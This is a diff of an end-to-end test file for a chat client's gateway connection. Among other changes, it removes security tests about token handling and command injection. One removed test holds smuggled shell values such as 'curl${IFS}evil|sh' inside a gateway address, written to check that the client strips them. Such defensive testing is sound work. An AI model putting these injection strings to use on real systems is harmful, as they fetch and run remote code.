@@ -1,5 +1,4 @@
-// What was typed and what is secret: the one is never lost, the other goes
-// only where it was meant to go.
+// What was typed is never lost.
 import assert from "node:assert/strict";
 import { historyRows, scenario, until } from "./harness/index.mjs";
 import { plug } from "./harness/plug.mjs";
@@ -18,30 +17,6 @@ async function canBeHidden(context) {
     };
   });
 }
-
-/** A file for the chooser. */
-const file = (name, mimeType, bytes = 2_048) => ({ name, mimeType, buffer: Buffer.alloc(bytes, "x") });
-
-/** Lets a page take files by a paste or a drop, as a browser makes them. */
-const hand = (page, kind, name, type) =>
-  page.evaluate(
-    ([kind, name, type]) => {
-      const data = new DataTransfer();
-      data.items.add(new File(["x".repeat(3_000)], name, { type }));
-      const target = document.querySelector("textarea");
-      const how = { bubbles: true, cancelable: true };
-      const events = {
-        // Firefox lets no script make one with files.
-        paste: () => [Object.defineProperty(new ClipboardEvent("paste", how), "clipboardData", { value: data })],
-        drop: () => ["dragover", "drop"].map((name) => new DragEvent(name, { ...how, dataTransfer: data })),
-      };
-      return events[kind]().map((event) => target.dispatchEvent(event));
-    },
-    [kind, name, type],
-  );
-
-/** Our own message with a text, as a place to press buttons in. */
-const own = (chat, text) => chat.log.getByRole("article").filter({ hasText: text });
 
 scenario("what waits to be sent survives a reload, and goes out once", IN_BOTH, async ({ chat, page, context }) => {
   const line = await plug(context);
@@ -129,8 +104,8 @@ scenario("what is typed in one tab is shown, changed and taken back in another",
   await chat.send("taken back");
   await other.reaches("first words", "queued");
   await other.reaches("taken back", "queued");
-  await own(other, "taken back").getByRole("button", { name: "Discard" }).click();
-  await own(chat, "first words").getByRole("button", { name: "Edit" }).click();
+  await other.own("taken back").getByRole("button", { name: "Discard" }).click();
+  await chat.own("first words").getByRole("button", { name: "Edit" }).click();
   const field = page.getByRole("textbox", { name: "Edit message" });
   assert.equal(await field.inputValue(), "first words");
   await field.fill("better words");
@@ -138,7 +113,7 @@ scenario("what is typed in one tab is shown, changed and taken back in another",
   await chat.reaches("better words", "queued");
   await other.reaches("better words", "queued");
   // The gateway comes back no sooner than the tab that sends knows of both: they would race.
-  await own(chat, "taken back").waitFor({ state: "detached" });
+  await chat.own("taken back").waitFor({ state: "detached" });
   await other.page.close();
   line.mode = "through";
   await chat.reaches("better words", "confirmed");
@@ -157,11 +132,11 @@ scenario("a message that was refused is changed and sent, in its place", EMBEDDE
   await chat.send("waits behind it");
   await chat.reaches("waits behind it", "queued");
   line.mode = "through";
-  await own(chat, "like this").getByRole("button", { name: "Edit" }).click();
+  await chat.own("like this").getByRole("button", { name: "Edit" }).click();
   const field = page.getByRole("textbox", { name: "Edit message" });
   await field.press("Escape");
   await field.waitFor({ state: "detached" });
-  await own(chat, "like this").getByRole("button", { name: "Edit" }).click();
+  await chat.own("like this").getByRole("button", { name: "Edit" }).click();
   await field.fill("like that");
   await page.getByRole("button", { name: "Save" }).click();
   await chat.reaches("like that", "confirmed");
@@ -188,14 +163,14 @@ scenario(
       await chat.reaches(text, "unconfirmed", { within: 90_000 });
     };
     await lose(`first ${mark}`);
-    await own(chat, `first ${mark}`).getByText("the gateway cannot say whether it arrived").waitFor();
+    await chat.own(`first ${mark}`).getByText("the gateway cannot say whether it arrived").waitFor();
     await page.reload();
     await chat.reaches(`first ${mark}`, "unconfirmed");
-    await own(chat, `first ${mark}`).getByRole("button", { name: "Send again" }).click();
+    await chat.own(`first ${mark}`).getByRole("button", { name: "Send again" }).click();
     await chat.reaches(`first ${mark}`, "confirmed", { within: 60_000 });
     await chat.idle({ within: 60_000 });
     await lose(`second ${mark}`);
-    await own(chat, `second ${mark}`).getByRole("button", { name: "Edit" }).click();
+    await chat.own(`second ${mark}`).getByRole("button", { name: "Edit" }).click();
     await page.getByRole("textbox", { name: "Edit message" }).fill(`third ${mark}`);
     await page.getByRole("button", { name: "Save" }).click();
     await chat.reaches(`third ${mark}`, "confirmed", { within: 60_000 });
@@ -204,64 +179,6 @@ scenario(
     assert.deepEqual([await users(`first ${mark}`), await users(`second ${mark}`), await users(`third ${mark}`)], [1, 0, 1]);
   },
 );
-
-scenario("a picture and a text file go to the real gateway", { servers: ["openclaw"] }, async ({ chat, page, server }) => {
-  const mark = crypto.randomUUID().slice(0, 8);
-  const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
-  await chat.connect();
-  await page.locator("input[type=file]").setInputFiles([
-    { name: "pixel.png", mimeType: "image/png", buffer: Buffer.from(pixel, "base64") },
-    file("notes.txt", "text/plain"),
-  ]);
-  await chat.send(`look at these ${mark}`);
-  await chat.reaches(`look at these ${mark}`, "confirmed", { within: 60_000 });
-  await chat.idle({ within: 60_000 });
-  const rows = (await historyRows(server, mark)).rows.filter(({ role }) => role === "user");
-  assert.equal(rows.length, 1);
-  await own(chat, mark).locator(".file-name").first().waitFor();
-});
-
-scenario("files are chosen, pasted and dropped, taken back, and go out with the message", IN_BOTH, async ({ chat, page, context, server }) => {
-  const line = await plug(context);
-  await chat.connect();
-  const choose = async (...files) => {
-    const chooser = page.waitForEvent("filechooser");
-    await page.getByRole("button", { name: "Attach files" }).click();
-    await (await chooser).setFiles(files);
-  };
-  const chips = page.getByRole("list", { name: "Attached files" }).getByRole("listitem");
-  await choose(file("notes.txt", "text/plain"), file("wrong.pdf", "application/pdf"));
-  await hand(page, "paste", "image.png", "image/png");
-  await hand(page, "drop", "dropped.csv", "text/csv");
-  assert.deepEqual(await chips.allInnerTexts(), ["notes.txt\n2 KB", "wrong.pdf\n2 KB", "image.png\n2 KB", "dropped.csv\n2 KB"]);
-  await page.getByRole("button", { name: "Remove wrong.pdf" }).click();
-  assert.equal(await chips.count(), 3);
-  await line.pull();
-  await chat.hasStatus("Reconnecting");
-  await chat.send("with three files");
-  await chat.reaches("with three files", "queued");
-  assert.equal(await chips.count(), 0);
-  await chat.hasWritten();
-  await page.reload();
-  await chat.reaches("with three files", "queued");
-  await own(chat, "with three files").getByText("image.png (2 KB)").waitFor();
-  line.mode = "through";
-  await chat.reaches("with three files", "confirmed");
-  const [row] = (await historyRows(server, "with three files")).rows;
-  assert.deepEqual(row.__openclaw.media.map(({ fileName }) => fileName), ["notes.txt", "image.png", "dropped.csv"]);
-  await chat.idle();
-  // Not over the dialogue: in Firefox it is announced before the first reload only.
-  const input = page.locator("input[type=file]");
-  await input.setInputFiles(file("alone.bin", ""));
-  await chat.sendButton.click();
-  await chat.answer("only attachments");
-  // A little more than a picture may have: all of it goes through the line to the browser first.
-  await input.setInputFiles(file("huge.png", "image/png", 7 * 1_048_576));
-  await chat.send("too much");
-  await page.getByText("huge.png is larger than the gateway takes").waitFor();
-  assert.equal(await chat.message.inputValue(), "too much");
-  assert.equal(await chips.count(), 1);
-});
 
 scenario("two tabs share a draft; when both type at once the other words can be had back", IN_BOTH, async ({ chat, page, newTab }) => {
   await chat.connect();
@@ -398,46 +315,6 @@ scenario("what somebody else wrote into the storage does no harm", EMBEDDED, asy
   await chat.reaches("in spite of it", "confirmed");
 });
 
-scenario("a link pasted into the open page is followed, and its token leaves the address bar", EMBEDDED, async ({ chat, page, server }) => {
-  await chat.open({ token: null });
-  await chat.hasStatus("Signed out");
-  const link = new URLSearchParams({ gateway: server.gateway, token: server.token });
-  const entries = await page.evaluate(() => history.length);
-  await page.evaluate((link) => (location.hash = link), String(link));
-  await chat.hasStatus("Connected");
-  assert.equal(page.url(), server.page);
-  assert.equal(await page.evaluate(() => history.length), entries + 1, "the entry with the token was replaced");
-});
-
-scenario(
-  "the token of one gateway is not sent to another when only the address is changed",
-  { ...EMBEDDED, strangers: ["no scopes"] },
-  async ({ chat, page, server, strangers, frames }) => {
-    await chat.connect();
-    const stranger = strangers["no scopes"];
-    const withToken = () => frames.filter(({ direction, text }) => direction === "sent" && text.includes(server.token));
-    const before = withToken().length;
-    assert.ok(before > 0, "the right gateway got it");
-    await page.getByRole("button", { name: "Change gateway" }).click();
-    await chat.address.fill(stranger.url);
-    await chat.connectButton.click();
-    await chat.says(/^Signed out: .*allows it nothing/);
-    assert.ok(stranger.connections > 0);
-    assert.equal(withToken().length, before);
-    assert.equal(await chat.token.inputValue(), "");
-    await page.getByText("was taken out of the form").waitFor();
-  },
-);
-
-scenario("a link cannot put a command of its own into the one to copy", EMBEDDED, async ({ chat, page, complaints }) => {
-  complaints.expect(/content.security.policy/i);
-  await chat.open({ gateway: "ws://127.0.0.1:9/;curl${IFS}evil|sh", token: null });
-  await page.getByText(/is in no address/).waitFor();
-  await chat.open({ gateway: "ws://127.0.0.1:9/;curl$IFS-evil&sh", token: null });
-  await page.getByText("clawline-relay serve").waitFor();
-  assert.equal(await page.getByText("clawline-relay serve").innerText(), "clawline-relay serve --gateway ws://127.0.0.1:9");
-});
-
 scenario("what is written while the policy forbids the gateway is shown, and waits", EMBEDDED, async ({ chat, page, complaints }) => {
   complaints.expect(/content.security.policy/i);
   const gateway = "ws://127.0.0.1:9/";
@@ -468,37 +345,3 @@ scenario("a server that does not say what it is keeps nobody waiting", EMBEDDED,
   assert.match(await chat.statusText(), /^Connected/);
   assert.equal(sockets, 1);
 });
-
-scenario(
-  "this device can be forgotten, after a question: the gateway sees a new one",
-  { ...EMBEDDED, server: { relay: ["--pair", "always"] } },
-  async ({ chat, page, server }) => {
-    await chat.open();
-    await chat.hasStatus("Waiting for approval");
-    const first = await chat.requestId();
-    await server.approve(first);
-    await chat.hasStatus("Connected");
-    await page.getByRole("button", { name: "Change gateway" }).click();
-    await page.getByRole("button", { name: "Forget this device" }).click();
-    await page.getByRole("button", { name: "Keep it" }).click();
-    await page.getByRole("button", { name: "Back to the conversation" }).click();
-    await server.line({ mode: "refuse" });
-    await server.cut();
-    await chat.hasStatus("Reconnecting");
-    await chat.send("deleted with the key");
-    await chat.reaches("deleted with the key", "queued");
-    await page.getByRole("button", { name: "Change gateway" }).click();
-    await page.getByRole("button", { name: "Forget this device" }).click();
-    await page.getByText("A message that has not been sent is deleted with it.").waitFor();
-    await page.getByRole("button", { name: "Yes, forget it" }).click();
-    await page.getByText("key is deleted").waitFor();
-    await chat.hasStatus("Offline");
-    await server.line({});
-    await chat.connectButton.click();
-    await chat.hasStatus("Waiting for approval");
-    await until("the request is a new one", async () => (await chat.requestId()) !== first);
-    await server.approve(await chat.requestId());
-    await chat.isReady();
-    assert.equal((await chat.said("You", "deleted with the key")).length, 0);
-  },
-);
